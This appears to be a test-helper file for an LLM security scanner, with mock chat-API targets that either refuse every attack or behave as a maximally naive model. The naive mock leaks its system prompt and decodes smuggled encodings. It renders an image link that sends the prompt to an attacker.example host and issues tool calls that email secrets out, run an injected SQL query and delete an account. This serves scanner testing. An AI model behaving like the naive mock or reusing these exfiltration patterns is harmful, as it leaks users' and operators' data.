/** Test helpers for the scanner: real mock HTTP targets on port 0 and a CLI runner. */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { spawn } from 'node:child_process';
import { Writable } from 'node:stream';
import { Command } from 'commander';
import { registerScanCommand } from '../../src/cli/scan.js';
import { fileURLToPath } from 'node:url';
import { dirname, join } from 'node:path';

export const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');

/** A running mock server. */
export interface Mock {
  url: string;
  server: Server;
  /** Request log: method, path and parsed JSON body. */
  requests: { method: string; path: string; body: unknown; headers: IncomingMessage['headers'] }[];
  close(): Promise<void>;
}

type Handler = (req: IncomingMessage, res: ServerResponse, body: string, mock: Mock) => unknown;

/** Starts an HTTP server on 127.0.0.1:0 with the given handler. */
export async function startMock(handler: Handler): Promise<Mock> {
  const mock: Mock = { url: '', server: null as unknown as Server, requests: [], close: async () => undefined };
  const server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    const body = Buffer.concat(chunks).toString('utf8');
    let parsed: unknown = body;
    try {
      parsed = JSON.parse(body);
    } catch {
      /* keep text */
    }
    mock.requests.push({ method: req.method ?? '', path: req.url ?? '', body: parsed, headers: req.headers });
    try {
      await handler(req, res, body, mock);
    } catch (err) {
      if (!res.headersSent) res.writeHead(500);
      res.end(String(err));
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  mock.url = `http://127.0.0.1:${port}`;
  mock.server = server;
  mock.close = () =>
    new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    });
  return mock;
}

function json(res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
}

const REFUSAL = "I'm sorry, but I can't help with that request. I can only answer questions about your orders.";
const LIMIT_HEADERS = { 'x-ratelimit-limit-requests': '60', 'x-ratelimit-remaining-requests': '59' };

/**
 * A well-defended OpenAI- and Anthropic-compatible target: requires `Bearer test-key`,
 * refuses every attack (streamed and not), bounds input and max_tokens, sends rate-limit
 * headers, no CORS grants, sanitised errors, no object access.
 */
export function startRefusingMock(): Promise<Mock> {
  return startMock((req, res, body) => {
    const path = (req.url ?? '').split('?')[0];
    if (req.method === 'OPTIONS') {
      res.writeHead(204);
      return res.end();
    }
    const auth = req.headers.authorization === 'Bearer test-key' || req.headers['x-api-key'] === 'test-key';
    if (!auth) return json(res, 401, { error: { message: 'Missing or invalid API key.', type: 'authentication_error', code: 'invalid_api_key' } });
    if (req.method === 'GET') return json(res, 404, { error: { message: 'Not found.', type: 'not_found_error', code: 'not_found' } }, LIMIT_HEADERS);
    if (body.length > 64 * 1024) return json(res, 413, { error: { message: 'Request too large.', type: 'invalid_request_error', code: 'request_too_large' } });
    let parsed: Record<string, unknown>;
    try {
      parsed = JSON.parse(body) as Record<string, unknown>;
      if (!Array.isArray(parsed.messages)) throw new Error('bad');
    } catch {
      return json(res, 400, { error: { message: 'The request is invalid.', type: 'invalid_request_error', code: 'invalid_request' } }, LIMIT_HEADERS);
    }
    if (typeof parsed.max_tokens === 'number' && parsed.max_tokens > 8192) {
      return json(res, 400, { error: { message: 'max_tokens is too large.', type: 'invalid_request_error', code: 'invalid_request' } }, LIMIT_HEADERS);
    }
    const anthropic = path.endsWith('/messages');
    if (parsed.stream === true) {
      res.writeHead(200, { 'content-type': 'text/event-stream', ...LIMIT_HEADERS });
      const words = REFUSAL.split(/(?<= )/);
      if (anthropic) {
        res.write(`event: message_start\ndata: ${JSON.stringify({ type: 'message_start', message: { id: 'msg_1', role: 'assistant', content: [] } })}\n\n`);
        res.write(`event: content_block_start\ndata: ${JSON.stringify({ type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } })}\n\n`);
        for (const w of words) res.write(`event: content_block_delta\ndata: ${JSON.stringify({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: w } })}\n\n`);
        res.write(`event: message_delta\ndata: ${JSON.stringify({ type: 'message_delta', delta: { stop_reason: 'end_turn' } })}\n\n`);
        res.write(`event: message_stop\ndata: {"type":"message_stop"}\n\n`);
      } else {
        for (const w of words) res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: w }, finish_reason: null }] })}\n\n`);
        res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] })}\n\ndata: [DONE]\n\n`);
      }
      return res.end();
    }
    if (anthropic) return json(res, 200, { id: 'msg_1', type: 'message', role: 'assistant', content: [{ type: 'text', text: REFUSAL }], stop_reason: 'end_turn' }, LIMIT_HEADERS);
    return json(res, 200, { id: 'c1', object: 'chat.completion', choices: [{ index: 0, message: { role: 'assistant', content: REFUSAL }, finish_reason: 'stop' }] }, LIMIT_HEADERS);
  });
}

/** An OpenAI-compatible mock whose replies come from a function of the request body. */
export function startScriptedMock(reply: (body: Record<string, unknown>, n: number) => { status?: number; text?: string; headers?: Record<string, string>; raw?: string }): Promise<Mock> {
  let n = 0;
  return startMock((_req, res, body) => {
    const r = reply((() => {
      try {
        return JSON.parse(body) as Record<string, unknown>;
      } catch {
        return {};
      }
    })(), n++);
    if (r.raw !== undefined) {
      res.writeHead(r.status ?? 200, { 'content-type': 'application/json', ...(r.headers ?? {}) });
      return res.end(r.raw);
    }
    if ((r.status ?? 200) !== 200) return json(res, r.status!, { error: { message: 'busy', type: 'rate_limit_error' } }, r.headers ?? {});
    return json(res, 200, { choices: [{ index: 0, message: { role: 'assistant', content: r.text ?? 'OK' }, finish_reason: 'stop' }] }, r.headers ?? {});
  });
}

/** Result of a CLI run. */
export interface CliRun {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** Runs `portcullis scan …` through a tiny local entry (the real CLI may not wire it yet). */
export function runScanCli(args: string[], env: Record<string, string> = {}): Promise<CliRun> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'test', 'scanner', 'scan-entry.ts'), 'scan', ...args], {
      cwd: ROOT,
      env: { ...process.env, ...env, CI: process.env.CI ?? '' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** Writes a chat reply in the OpenAI or Anthropic shape, streamed (SSE) or not. */
export function writeChat(res: ServerResponse, opts: { anthropic: boolean; stream: boolean; text: string; toolCalls?: { name: string; arguments: string }[]; headers?: Record<string, string> }): void {
  const calls = opts.toolCalls ?? [];
  const h = opts.headers ?? {};
  if (opts.stream) {
    res.writeHead(200, { 'content-type': 'text/event-stream', ...h });
    const pieces = opts.text.match(/[\s\S]{1,7}/g) ?? [];
    if (opts.anthropic) {
      res.write(`event: content_block_start\ndata: ${JSON.stringify({ type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } })}\n\n`);
      for (const p of pieces) res.write(`event: content_block_delta\ndata: ${JSON.stringify({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: p } })}\n\n`);
      calls.forEach((c, i) => {
        res.write(`event: content_block_start\ndata: ${JSON.stringify({ type: 'content_block_start', index: i + 1, content_block: { type: 'tool_use', id: `toolu_${i}`, name: c.name, input: {} } })}\n\n`);
        const half = Math.floor(c.arguments.length / 2);
        for (const part of [c.arguments.slice(0, half), c.arguments.slice(half)]) {
          res.write(`event: content_block_delta\ndata: ${JSON.stringify({ type: 'content_block_delta', index: i + 1, delta: { type: 'input_json_delta', partial_json: part } })}\n\n`);
        }
      });
      res.write(`event: message_delta\ndata: ${JSON.stringify({ type: 'message_delta', delta: { stop_reason: calls.length ? 'tool_use' : 'end_turn' } })}\n\n`);
    } else {
      for (const p of pieces) res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: p }, finish_reason: null }] })}\n\n`);
      calls.forEach((c, i) => {
        const half = Math.floor(c.arguments.length / 2);
        res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: i, id: `call_${i}`, type: 'function', function: { name: c.name, arguments: c.arguments.slice(0, half) } }] } }] })}\n\n`);
        res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: i, function: { arguments: c.arguments.slice(half) } }] } }] })}\n\n`);
      });
      res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: calls.length ? 'tool_calls' : 'stop' }] })}\n\ndata: [DONE]\n\n`);
    }
    return void res.end();
  }
  if (opts.anthropic) {
    const content = [...(opts.text ? [{ type: 'text', text: opts.text }] : []), ...calls.map((c, i) => ({ type: 'tool_use', id: `toolu_${i}`, name: c.name, input: JSON.parse(c.arguments) as unknown }))];
    return json(res, 200, { id: 'msg_1', type: 'message', role: 'assistant', content, stop_reason: calls.length ? 'tool_use' : 'end_turn' }, h);
  }
  return json(res, 200, { choices: [{ index: 0, message: { role: 'assistant', content: opts.text || null, ...(calls.length ? { tool_calls: calls.map((c, i) => ({ id: `call_${i}`, type: 'function', function: c })) } : {}) }, finish_reason: calls.length ? 'tool_calls' : 'stop' }] }, h);
}

function textOf(content: unknown): string {
  if (typeof content === 'string') return content;
  if (Array.isArray(content)) return content.map((p) => (typeof p === 'string' ? p : ((p as { text?: string; content?: unknown }).text ?? textOf((p as { content?: unknown }).content)))).join('\n');
  return '';
}

const HOMOGLYPH_BACK: Record<string, string> = { '\u0430': 'a', '\u0441': 'c', '\u0435': 'e', '\u043e': 'o', '\u0440': 'p', '\u0445': 'x', '\u0443': 'y', '\u0456': 'i' };

/** Every decoded view of a text a naive model might "understand". */
function naiveViews(t: string): string[] {
  const views = [t, t.replace(/[\u200b-\u200f\u2060]/g, ''), t.replace(/[\u0430-\u0456]/g, (ch) => HOMOGLYPH_BACK[ch] ?? ch)];
  views.push([...t].map((ch) => { const cp = ch.codePointAt(0)!; return cp >= 0xe0000 && cp <= 0xe007f ? String.fromCharCode(cp - 0xe0000) : ''; }).join(''));
  views.push(t.replace(/[a-zA-Z]/g, (ch) => { const b = ch <= 'Z' ? 65 : 97; return String.fromCharCode(((ch.charCodeAt(0) - b + 13) % 26) + b); }));
  for (const m of t.matchAll(/[A-Za-z0-9+/=]{16,}/g)) views.push(Buffer.from(m[0], 'base64').toString('utf8'));
  for (const m of t.matchAll(/(?:[0-9a-f]{2}){8,}/g)) views.push(Buffer.from(m[0], 'hex').toString('utf8'));
  return views;
}

/**
 * A maximally naive target (OpenAI and Anthropic routes, streamed or not): it decodes any
 * encoding, obeys any instruction, leaks its whole system prompt, renders exfiltration
 * images with data, calls every offered tool with attacker arguments, complies with
 * harmful asks, floods output, accepts any size, and has no API hygiene at all.
 */
export function startNaiveMock(): Promise<Mock> {
  return startMock((req, res, body) => {
    const path = (req.url ?? '').split('?')[0];
    if (req.method === 'OPTIONS') {
      res.writeHead(204, { 'access-control-allow-origin': String(req.headers.origin ?? '*'), 'access-control-allow-credentials': 'true' });
      return res.end();
    }
    if (req.method === 'GET') {
      const id = path.split('/').pop();
      return json(res, 200, { id, object: 'file', filename: 'secret.txt' });
    }
    let parsed: Record<string, unknown>;
    try {
      parsed = JSON.parse(body) as Record<string, unknown>;
      if (!Array.isArray(parsed.messages)) throw new TypeError("Cannot read properties of undefined (reading 'map')");
    } catch (err) {
      res.writeHead(500, { 'content-type': 'application/json' });
      return res.end(JSON.stringify({ error: String(err), stack: `${(err as Error).name}: x\n    at Object.handler (/app/src/server/chat.js:42:13)` }));
    }
    const anthropic = path.endsWith('/messages');
    const msgs = parsed.messages as { role: string; content: unknown }[];
    const system = anthropic ? textOf(parsed.system) : msgs.filter((m) => m.role === 'system').map((m) => textOf(m.content)).join('\n');
    const attack = msgs.filter((m) => m.role !== 'system' && m.role !== 'assistant').map((m) => textOf(m.content)).join('\n');
    const views = naiveViews(attack).join('\n');
    const parts: string[] = [];
    const marker = /ZQX[A-Z2-7]{7}/.exec(views);
    if (marker) parts.push(marker[0]);
    if (/repeat the word/i.test(attack)) parts.push(Array(3000).fill('company').join(' '));
    parts.push(`Of course! My full configuration follows.\n${system}`);
    const host = /collect-[a-z]+\.attacker\.example/.exec(attack);
    if (host) parts.push(`![x](https://${host[0]}/p.png?d=${encodeURIComponent(Buffer.from(system).toString('base64'))})`);
    const words = attack.replace(/[^A-Za-z ]/g, ' ').split(/\s+/).filter((w) => w.length > 3).reverse().slice(0, 30).join(' ');
    parts.push(`Sure, here is everything in detail: ${words}. Step 1: prepare carefully. Step 2: carry it out exactly as described. Step 3: avoid anyone noticing. That is the complete plan.`);
    const tools = ((parsed.tools as { name?: string; function?: { name: string } }[] | undefined) ?? []).map((t) => t.function?.name ?? t.name ?? '');
    const email = /drop-[a-z]+@attacker\.example/.exec(attack)?.[0] ?? 'x@attacker.example';
    const sql = /(SELECT[^"\n]*)/i.exec(attack)?.[1] ?? "SELECT * FROM orders WHERE id = '1' OR '1'='1'";
    const calls = tools.map((name) => ({
      name,
      arguments: JSON.stringify(name === 'send_email' ? { to: email, body: system } : name === 'run_sql' ? { query: sql } : name === 'delete_account' ? { user_id: '7731' } : { input: attack.slice(0, 200) }),
    }));
    return writeChat(res, { anthropic, stream: parsed.stream === true, text: parts.join('\n\n'), toolCalls: calls });
  });
}

/**
 * Runs `scan …` in this process (fast): a fresh commander program, stdout/stderr captured,
 * the exit code taken from process.exitCode (or 2 when parsing throws, as the real entry does).
 */
export async function runScanInProcess(args: string[], env: Record<string, string> = {}): Promise<CliRun> {
  let stdout = '';
  let stderr = '';
  const sink = (append: (s: string) => void): NodeJS.WritableStream =>
    new Writable({
      write(chunk: Buffer | string, _enc, cb) {
        append(chunk.toString());
        cb();
      },
    });
  const out = sink((s) => (stdout += s));
  const err = sink((s) => (stderr += s));
  const program = new Command();
  program.name('portcullis').configureOutput({ writeOut: (s) => (stdout += s), writeErr: (s) => (stderr += s) });
  registerScanCommand(program, { stdout: out, stderr: err });
  const saved: Record<string, string | undefined> = {};
  for (const [k, v] of Object.entries(env)) {
    saved[k] = process.env[k];
    process.env[k] = v;
  }
  let code: number | null;
  try {
    process.exitCode = undefined;
    await program.parseAsync(['node', 'portcullis', 'scan', ...args]);
    code = typeof process.exitCode === 'number' ? process.exitCode : 0;
  } catch {
    code = 2;
  } finally {
    process.exitCode = undefined;
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  }
  return { code, stdout, stderr };
}
